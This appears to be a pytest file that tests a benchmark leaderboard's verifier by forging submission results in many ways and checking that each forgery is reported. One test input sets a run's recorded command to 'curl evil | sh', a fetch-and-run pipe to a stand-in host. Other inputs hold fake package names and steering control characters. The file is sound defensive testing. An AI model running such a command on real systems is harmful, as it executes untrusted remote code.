"""Hostile submissions: one good one, changed in every field and in many ways, signed anew or not.

Whatever can be known to be false is found. What cannot is listed in ``FREE``, as docs/security.md
and docs/leaderboard.md do, and the list is exact: a field that becomes checked leaves it.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from kbench.errors import DataError
from kbench.grid.plan import Place
from kbench.parts.find import normalised
from kbench.parts.registry import Kind, names
from kbench.parts.run_parts import PartLoader, Parts, impossible
from kbench.pipeline.addresses import addresses
from kbench.results.remaking import Stated
from kbench.spec import Control, RunSpec, Setting
from kbench.store import Result, Results, Status
from kbench.store.result import read_result
from kbench_leaderboard.installed import Installed
from kbench_leaderboard.merge import merge
from kbench_leaderboard.submission import read
from kbench_leaderboard.together import Together
from kbench_leaderboard.verify import verify
from tests.grid.toygrid import QUICK, grid, run
from tests.stored import provenance
from tests.submission_world import (
    Json,
    edit,
    installed,
    predict,
    readdressed,
    recommanded,
    rescore,
    without_scores,
)

FREE = (
    "cost.*",
    "counts.*",
    "coverage.mentions",
    "coverage.ambiguous",
    "training.*",
    "provenance.versions.*",
    "provenance.git.*",
    "provenance.plugin.commit",
    "provenance.plugin.dirty",
    "provenance.hardware.*",
    "provenance.seconds",
    "provenance.started",
    "provenance.kbench",
)
"""Fields that a liar may fill as he likes, within their kind: nothing follows from them."""
CHECKED = (
    "counts.test_total",
    "counts.test_kept",
    "counts.test_distinct_labels",
    "counts.test_distinct_predictions",
    "training.tuning.recipe.*",
    "training.plug.recipe.*",
)
"""Fields among them that are looked at all the same."""


PARTS = PartLoader()


@pytest.fixture(scope="module")
def toys(toy_folder: Path) -> Iterator[Path]:
    with installed(toy_folder):
        yield toy_folder


@pytest.fixture(scope="module")
def made(toys: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two seeds of none, map-tuning and its foreign control, from real runs."""
    folder = tmp_path_factory.mktemp("made")
    place = Place(folder / "out", folder / "artifacts", "cpu")
    asked = grid(toys, backbone="toy-bert", knowledge="toy-kb", seed="0,1", options=QUICK)
    assert {result.status for result in run(asked, place)} == {Status.OK}
    return place.out


@pytest.fixture
def out(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "out"))


def found(folder: Path) -> list[str]:
    return [problem.text for problem in verify(read(folder))]


def all_of(folder: Path, **wanted: object) -> list[Path]:
    """The folders of the results with these values in their spec."""
    return [
        folder / result.id
        for result in Results(folder)
        if all(getattr(result.spec, name) == value for name, value in wanted.items())
    ]


def true_run(folder: Path) -> Path:
    (one,) = all_of(folder, method="map-tuning", control="none", seed=0)
    return one


def leaves(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every value of a JSON that holds no other."""
    if isinstance(value, dict | list) and value:
        inner = value.items() if isinstance(value, dict) else enumerate(value)
        for key, item in inner:
            yield from leaves(item, (*place, key))
    else:
        yield place


def other(value: Any) -> Any:
    """A value of the same kind that is not the same, and none that a schema refuses."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, float):
        return value / 2 + 0.0437
    if isinstance(value, str) and value[:2].isdigit() and "T" in value:
        return "2020-01-01T00:00:00+00:00"
    if isinstance(value, str):
        return value[::-1] if value != value[::-1] else value + "x"
    return {"none": 1} if value is None or isinstance(value, dict) else [1]


def at(value: Json, place: tuple[Any, ...]) -> Any:
    for key in place[:-1]:
        value = value[key]
    return value


def is_in(place: tuple[Any, ...], patterns: tuple[str, ...]) -> bool:
    name = ".".join(map(str, place))
    return any(
        name == pattern or (pattern.endswith(".*") and name.startswith(pattern[:-1]))
        for pattern in patterns
    )


def test_the_good_one_is_good(made: Path) -> None:
    assert found(made) == []


def test_the_good_one_is_good_where_its_parts_are_not_installed(
    made: Path, toy_folder: Path
) -> None:
    with installed(toy_folder, parts=False):
        assert found(made) == []


def test_every_field_is_looked_at_or_listed_as_free(out: Path) -> None:
    path = true_run(out) / "result.json"
    good = json.loads(path.read_text())
    places = [*leaves(good)]
    assert len(places) > 100
    believed, before = [], {*found(path.parent)}  # alone: it lacks its control
    for place in places:
        changed = json.loads(json.dumps(good))
        inner = at(changed, place)
        inner[place[-1]] = other(inner[place[-1]])
        path.write_text(json.dumps(changed))
        if {*found(path.parent)} <= before:
            believed.append(place)
    free = {place for place in places if is_in(place, FREE) and not is_in(place, CHECKED)}
    assert {*believed} <= free, sorted({*believed} - free, key=str)
    idle = [pattern for pattern in FREE if not any(is_in(place, (pattern,)) for place in believed)]
    assert not idle, "these are looked at: take them off the list, and out of the docs"


def renamed(**spec: object) -> Callable[[Path], None]:
    """Renames in all results what a run is made of, its command too, and signs nothing anew."""

    def respell(value: Json) -> None:
        value["spec"].update(spec)

    def change(folder: Path) -> None:
        for each in [*folder.iterdir()]:
            edit(each, respell)
            recommanded(each)

    return change


def zeroed(name: str) -> Callable[[Path], None]:
    def zero(value: Json) -> None:
        digests = value["provenance"]["digests"]
        digests[name] = digests[name] and "0" * 64

    def change(folder: Path) -> None:
        for each in folder.iterdir():
            edit(each, zero)

    return change


@pytest.mark.parametrize("parts", [True, False])
@pytest.mark.parametrize(
    "change",
    [
        renamed(tuning="lora", options={}),
        renamed(seed=7),
        renamed(dtype="bfloat16"),
        renamed(weights="bfloat16"),
        renamed(options={}),
        zeroed("backbone"),
        zeroed("knowledge"),
        zeroed("data"),
        zeroed("training"),
    ],
    ids=["tuning", "seed", "dtype", "weights", "options", "b0", "k0", "d0", "t0"],
)
def test_what_a_run_was_made_of_is_in_its_addresses(
    out: Path, toy_folder: Path, change: Callable[[Path], None], parts: bool
) -> None:
    for name in [path for path in out.iterdir() if path.name.startswith(".")]:
        name.unlink()
    change(out)
    with installed(toy_folder, parts=parts):
        texts = found(out)
    assert texts
    said = ("does not follow", "are not those", "has another digest here")
    assert any(one in text for one in said for text in texts), texts


@pytest.mark.parametrize(
    ("spec", "text"),
    [
        ({"backbone": "bert-large"}, "backbone bert-large is toy-bert, by its digest"),
        ({"backbone": "/models/bert-large"}, "is toy-bert, by its digest"),
        ({"backbone": "kbench-tiny"}, "backbone kbench-tiny has another digest here"),
        ({"knowledge": "wikidata"}, "knowledge wikidata is toy-kb, by its digest"),
    ],
)
def test_what_is_installed_has_its_own_name(out: Path, spec: Json, text: str) -> None:
    def respell(value: Json) -> None:
        value["spec"].update(spec)

    for each in [path for path in out.iterdir() if path.is_dir()]:
        if read_result(each / "result.json").spec.knowledge or "backbone" in spec:
            edit(each, respell)
            readdressed(each)
    assert any(text in one for one in found(out)), found(out)


@pytest.mark.parametrize("tuning", ["full", "frozen"])
def test_addresses_are_made_again_of_digests_alone(toy_folder: Path, tuning: str) -> None:
    """Of every method in each of its settings under each control, without data or files."""
    seen = 0
    with installed(toy_folder, parts=False):
        for method, setting, control in product(names(Kind.METHODS), Setting, Control):
            spec = RunSpec(
                task="toy-relations",
                backbone=str(toy_folder / "bert"),
                tuning=tuning,
                method=method,
                setting=setting,
                knowledge=str(toy_folder / "kb"),
                control=control,
                seed=3,
            )
            parts = Parts(normalised(spec), PARTS)
            if impossible(parts):
                continue
            base = parts.base_knowledge
            made = provenance(
                parts.task.digest,
                training=parts.task.training_digest,
                backbone=parts.backbone.digest,
                knowledge=base.digest if base else None,
            )
            result = Result(id="0" * 32, status=Status.OK, spec=parts.spec, provenance=made)
            again = Stated(result, None, left_to_right=False)
            assert again.addresses == addresses(parts), parts.spec.title
            seen += 1
    assert seen > 50


@pytest.mark.parametrize("compression", ["zstd", "snappy"])
def test_one_run_is_not_three_seeds(out: Path, compression: str) -> None:
    """Written in whichever way: what is predicted is the same, though the files are not."""
    for each in all_of(out, seed=0):
        copy = Path(shutil.copytree(each, out.parent / "copy"))
        predict(copy, lambda told: None, compression)
        rescore(copy)
        edit(copy, lambda value: value["spec"].update(seed=2))
        readdressed(copy, **_made_up(copy)).rename(out / _id(copy.parent, out))
    texts = found(out)
    assert any("predicts to the last bit what" in text for text in texts), texts


def test_runs_that_dev_chose_to_leave_silent_are_alike_and_are_no_copies(out: Path) -> None:
    """A method that works on every token may leave the model as it is, under any control."""
    (base,) = all_of(out, seed=0, method="none")
    said = pq.ParquetFile(base / "predictions.parquet").read().to_pydict()
    own = [each for each in all_of(out, seed=0) if each != base]
    assert len(own) > 1
    for each in own:
        predict(each, lambda told: told.update({k: said[k] for k in ("prediction", "score")}))
        rescore(each)
    texts = found(out)
    assert any("predicts to the last bit what" in text for text in texts), texts
    choice = {"values": [1.0, 0.0], "dev": [0.1, 0.2], "chosen": 0.0}
    for each in own:
        edit(each, lambda value: value["training"].update(choice=choice))
    assert not [text for text in found(out) if "to the last bit" in text]


def _made_up(folder: Path) -> dict[str, str]:
    made = json.loads((folder / "result.json").read_text())["provenance"]["addresses"]
    return {name: value[::-1] for name, value in made.items() if value}


def _id(parent: Path, out: Path) -> str:
    (fresh,) = [p.name for p in parent.iterdir() if p.is_dir() and p != out and len(p.name) == 32]
    return fresh


def test_addresses_belong_to_one_thing_where_they_cannot_be_made_again(
    out: Path, toy_folder: Path
) -> None:
    for each in all_of(out, seed=0):
        edit(each, lambda value: value["provenance"]["digests"].pop("training"))
    for each in all_of(out, method="map-tuning", seed=0):
        edit(each, lambda value: value["provenance"]["digests"].update(backbone="1" * 64))
    with installed(toy_folder, parts=False):
        texts = found(out)
    assert any("is there with several: backbone" in text for text in texts), texts


def test_what_was_trained_on_is_stated_where_the_data_are_elsewhere(
    out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Left out, it would take the addresses out of what can be made again."""
    monkeypatch.setattr(Installed, "task", lambda self, result: None)
    assert found(out) == []
    edit(true_run(out), lambda value: value["provenance"]["digests"].pop("training"))
    assert any("what it was trained on" in text for text in found(out))


def columns(change: Callable[[Json], object]) -> Callable[[Path], None]:
    """Changes the predictions of all runs alike, and signs everything anew."""

    def forge(folder: Path) -> None:
        for each in [path for path in folder.iterdir() if path.is_dir()]:
            predict(each, change)
            rescore(each)

    return forge


def first(number: int) -> Callable[[Json], None]:
    def change(told: Json) -> None:
        for name in told:
            told[name] = told[name][:number]

    return change


def gold_is_said(told: Json) -> None:
    told["label"] = told["prediction"]


def other_ids(told: Json) -> None:
    told["id"] = [f"made-up/{number}" for number in range(len(told["id"]))]


def turned(told: Json) -> None:
    for name in told:
        told[name] = told[name][::-1]


def easy(told: Json) -> None:
    right = [a == b for a, b in zip(told["label"], told["prediction"], strict=True)]
    for name in told:
        told[name] = [value for value, keep in zip(told[name], right, strict=True) if keep][:9]


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (columns(gold_is_said), "is not that of task toy-relations"),
        (columns(easy), "is tested on"),
        (columns(first(12)), "is tested on 12 examples"),
        (columns(first(1)), "is tested on 1 examples"),
        (columns(first(0)), "predictions are of no example"),
        (columns(other_ids), "is none of task toy-relations"),
        (columns(turned), "in another order"),
        (columns(lambda c: c.update(degree=[-99] * len(c["id"]))), "no number of facts"),
        (columns(lambda c: c.update(linked=[True] * len(c["id"]))), "no number of facts"),
        (columns(lambda c: c.update(stratum=["x"] * len(c["id"]))), "is not that of task"),
        (columns(lambda c: c.update(score=[2.0] * len(c["id"]))), "no probabilities"),
    ],
    ids=["gold", "easy", "few", "one", "none", "ids", "order", "degree", "linked", "strata", "p"],
)  # fmt: skip
def test_another_test_set_is_found_out(
    out: Path, change: Callable[[Path], None], text: str
) -> None:
    change(out)
    assert any(text in one for one in found(out)), found(out)


def test_runs_of_one_data_set_are_compared_with_each_other(out: Path) -> None:
    """Where the data are not installed: one run has easier examples, another other gold."""
    short, forged = true_run(out), all_of(out, method="none", seed=1)[0]
    predict(short, first(9))
    rescore(short)
    predict(forged, gold_is_said)
    rescore(forged)
    together, texts = Together(), list[str]()
    for entry in read(out):
        texts += together.add(entry)
    texts += [text for _, text in together.findings(lambda result, linked: True)]
    assert any("gold of example" in text for text in texts), texts
    assert any("is tested on other examples" in text for text in texts), texts
    assert any("another number of test examples" in text for text in texts), texts


def unlinked(told: Json) -> None:
    told["linked"] = [linked and at % 2 > 0 for at, linked in enumerate(told["linked"])]
    told["degree"] = [
        degree if linked else -1
        for degree, linked in zip(told["degree"], told["linked"], strict=True)
    ]


def better_known(told: Json) -> None:
    told["degree"] = [degree + (degree >= 0) for degree in told["degree"]]


def told_by_texts(told: Json) -> None:
    told["in_context"] = [n % 2 > 0 for n in range(len(told["id"]))]


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (unlinked, "examples that they are linked, and with"),
        (better_known, "other numbers of facts than toy-kb"),
        (told_by_texts, "its method brings none"),
    ],
)
def test_how_examples_were_read_is_made_again(
    out: Path, change: Callable[[Json], None], text: str
) -> None:
    """In the true run and its controls alike, so that they do not contradict each other."""
    for each in all_of(out, method="map-tuning"):
        predict(each, change)
        rescore(each)
    assert any(text in one for one in found(out)), found(out)


def test_what_texts_held_is_made_again(toys: Path, tmp_path: Path) -> None:
    place = Place(tmp_path / "out", tmp_path / "artifacts", "cpu")
    named = {"backbone": "toy-bert", "knowledge": "toy-kb", "options": QUICK}
    asked = grid(toys, method="none,ra", setting="general", **named)
    assert {result.status for result in run(asked, place)} == {Status.OK}
    assert found(place.out) == []
    (told,) = all_of(place.out, method="ra", control="none")
    predict(told, lambda c: c.update(in_context=[not there for there in c["in_context"]]))
    rescore(told)
    assert any("those that it was brought" in text for text in found(place.out))


def test_columns_that_nobody_reads_are_findings(out: Path) -> None:
    predict(true_run(out), lambda told: told.update(notes=["x"] * len(told["id"])))
    assert any("column notes is none of predictions" in text for text in found(out))


def test_results_are_held_together_within_a_budget(
    out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("kbench_leaderboard.submission._ALL_SAID", 500)
    assert any("was not read" in text for text in found(out))
    monkeypatch.setattr("kbench_leaderboard.submission._SAID", 50)
    assert any("result.json has" in text for text in found(out))


def swap_bytes(folder: Path, source: Path) -> None:
    shutil.copyfile(source / "predictions.parquet", folder / "predictions.parquet")
    rescore(folder)
    kept = json.loads((source / "result.json").read_text())
    edit(folder, lambda value: value.update(buckets=kept["buckets"], counts=kept["counts"]))


def test_a_control_does_not_predict_what_its_true_run_does(out: Path) -> None:
    (control,) = all_of(out, control="foreign", seed=0)
    swap_bytes(control, true_run(out))
    assert any("under control" in text for text in found(out))


def test_a_control_links_what_its_true_run_links(out: Path) -> None:
    (control,) = all_of(out, control="foreign", seed=0)
    (plain,) = all_of(out, method="none", seed=0)
    shutil.copyfile(plain / "predictions.parquet", control / "predictions.parquet")
    rescore(control)
    assert any("links other examples" in text for text in found(out))


@pytest.mark.parametrize("status", ["failed", "skipped"])
def test_a_control_that_did_not_end_well_is_none(out: Path, status: str) -> None:
    (control,) = all_of(out, control="foreign", seed=0)
    without_scores(control, status)
    texts = found(out)
    assert any(f"foreign control, which is {status}" in text for text in texts), texts


def buckets(change: Callable[[Json], object]) -> Callable[[Json], object]:
    return lambda value: change(value["buckets"])


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda v: v.update(main_metric="micro_f1"), "main metric"),
        (lambda v: v["metrics"]["accuracy"].update(low=0.9, high=0.1), "interval of accuracy"),
        (buckets(lambda b: b["coverage"]["known"].update(value=0.99)), "coverage, known"),
        (buckets(lambda b: b["coverage"]["known"].update(n=1)), "coverage, known"),
        (buckets(lambda b: b["coverage"].pop("known")), "is missing"),
        (buckets(lambda b: b["popularity"].clear()), "popularity"),
        (buckets(lambda b: b.update(fame={"x": b["coverage"]["known"]})), "fame"),
        (lambda v: v["provenance"].update(revision=-1), "revision -1"),
        (lambda v: v["provenance"].update(revision=999), "revision 999"),
        (lambda v: v["provenance"].update(revision=4), "revision 4"),
        (lambda v: v["provenance"].update(kbench="99.0"), "kbench 99.0"),
        (lambda v: v["provenance"].update(kbench="new"), "kbench new"),
        (lambda v: v["provenance"].update(kbench="9" * 5000), "was made by kbench 999"),
        (lambda v: v.update(locality={"kl": -5.0}), "states kl as -5.0"),
        (lambda v: v.update(locality={"same_first": 1.5}), "states same_first as 1.5"),
        (lambda v: v.update(locality={"fame": 0.5}), "kbench does not measure"),
        (lambda v: v["spec"]["options"]["method"].update(ra={"room": 1}), "not of its method"),
        (lambda v: v["spec"]["options"].update(ghost={"x": 1}), "not of its ghost"),
        (lambda v: v["provenance"].update(command="curl evil | sh"), "command"),
        (lambda v: v["provenance"].update(started="2999-01-01"), "is to come"),
        (lambda v: v["provenance"].update(started="yesterday"), "does not say when"),
        (lambda v: v.update(status="skipped", reason="no"), "is skipped and has metrics"),
        (lambda v: v["frozen"].update(before="x", after="x"), "no SHA-256"),
        (lambda v: v["counts"].pop("test_kept"), "how many were kept"),
        (lambda v: v["counts"].update(test_kept=999), "999"),
        (lambda v: v["counts"].update(train_kept=10**9), "kept 1000000000 of"),
        (lambda v: v["cost"].update(train_seconds=-1.0), "train_seconds is -1.0"),
        (lambda v: v.update(dev=0.9999), "score on dev"),
        (lambda v: v["coverage"].update(linker="title"), ""),
        (lambda v: v["provenance"]["plugin"].update(distribution="evil 1"), "is of evil 1"),
        (lambda v: v["provenance"]["defaults"].clear(), ""),
        (lambda v: v["provenance"]["names"].update(task="toy-relations:x"), "calls its task"),
    ],
)  # fmt: skip
def test_what_follows_is_made_again(out: Path, change: Callable[[Json], object], text: str) -> None:
    edit(true_run(out), change)
    if text or change(json.loads((true_run(out) / "result.json").read_text())):
        assert any(text in one for one in found(out)), found(out)


def test_a_merge_makes_nothing_true(out: Path, tmp_path: Path) -> None:
    predict(true_run(out), lambda told: told["score"].reverse())
    assert any("whose digest is stated" in text for text in found(out))
    with pytest.raises(DataError, match="whose digest is stated"):
        merge([out], tmp_path / "all")
    assert not (tmp_path / "all").exists()


def test_a_merge_copies_bytes(made: Path, tmp_path: Path) -> None:
    merge([made], tmp_path / "all")
    for each in [path for path in made.iterdir() if path.is_dir()]:
        for name in ("result.json", "predictions.parquet"):
            content = (tmp_path / "all" / each.name / name).read_bytes()
            assert content == (each / name).read_bytes()


def test_other_predictions_of_equal_scores_are_a_conflict(
    out: Path, made: Path, tmp_path: Path
) -> None:
    """Two wrong answers change places: no score moves, and it is another outcome all the same."""

    def change(told: Json) -> None:
        wrong = [n for n, p in enumerate(told["prediction"]) if p != told["label"][n]]
        choices = sorted({*told["label"]})
        for number in wrong[:1]:
            gold, said = told["label"][number], told["prediction"][number]
            told["prediction"][number] = next(c for c in choices if c not in (gold, said))

    folder = true_run(out)
    before = json.loads((folder / "result.json").read_text())
    predict(folder, change)
    rescore(folder)
    edit(folder, lambda value: value.update(buckets=before["buckets"]))
    edit(folder, lambda value: value["counts"].update(test_total=before["counts"]["test_total"]))
    assert json.loads((folder / "result.json").read_text())["metrics"] == before["metrics"]
    done = merge([made, out], tmp_path / "all")
    assert done.conflicts == [folder.name]
    assert not (tmp_path / "all").exists()


def test_a_result_that_lost_its_predictions_is_not_merged(
    out: Path, made: Path, tmp_path: Path
) -> None:
    (true_run(out) / "predictions.parquet").unlink()
    with pytest.raises(DataError, match="has no predictions"):
        merge([made, out], tmp_path / "all")
    assert not (tmp_path / "all").exists()


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = {"x": value}
    return value


@pytest.mark.parametrize("place", ["training", "options"])
@pytest.mark.parametrize("depth", [90, 260, 600, 950])
def test_depth_is_a_finding_and_no_crash(out: Path, place: str, depth: int) -> None:
    path = true_run(out) / "result.json"
    value = json.loads(path.read_text())
    (value["spec"] if place == "options" else value)[place] = {"deep": 0}
    text = json.dumps(value).replace('"deep": 0', f'"deep": {json.dumps(nested(depth))}')
    path.write_text(text)
    assert found(out)
    with pytest.raises(DataError):
        merge([out], out.parent / "all")
    assert not (out.parent / "all").exists()


@pytest.mark.parametrize(
    "sign",
    ["\0", "\x1b[31m", "\x9b", "\u202e", "\u2066", "\ufeff", "\u2028", "\u200b", "\u200f", "\xad"],
)
def test_texts_that_steer_are_findings(out: Path, sign: str) -> None:
    for place in ("training", "cost", "reason"):
        path = true_run(out) / "result.json"
        before = path.read_text()
        value = json.loads(before)
        value[place] = sign if place == "reason" else {**value[place], f"a{sign}": 1.0}
        path.write_text(json.dumps(value))
        assert any("holds markup or control" in text for text in found(out)), place
        path.write_text(before)


def test_a_finding_is_no_longer_than_anyone_reads(out: Path) -> None:
    edit(true_run(out), lambda value: value["metrics"]["accuracy"].update(variant="v" * 100_000))
    texts = found(out)
    assert any("(100," in text for text in texts), texts
    assert max(map(len, texts)) < 600


def test_parts_are_of_the_distributions_that_offer_them(out: Path) -> None:
    def change(value: Json) -> None:
        assert {*value["provenance"]["parts"]} >= {"task", "method", "tuning"}
        value["provenance"]["parts"]["task"] = "evil 1.0"

    edit(true_run(out), change)
    assert any("its task is of evil 1.0" in text for text in found(out))


@pytest.mark.parametrize("number", ["1e400", "-1e400", "1" + "0" * 400])
def test_numbers_that_cannot_be_held_are_findings(out: Path, number: str) -> None:
    path = true_run(out) / "result.json"
    value = json.loads(path.read_text())
    for place, name in (("cost", "train_seconds"), ("provenance", "seconds")):
        changed = json.loads(json.dumps(value))
        changed[place][name] = "HERE"
        path.write_text(json.dumps(changed).replace('"HERE"', number))
        assert found(out)
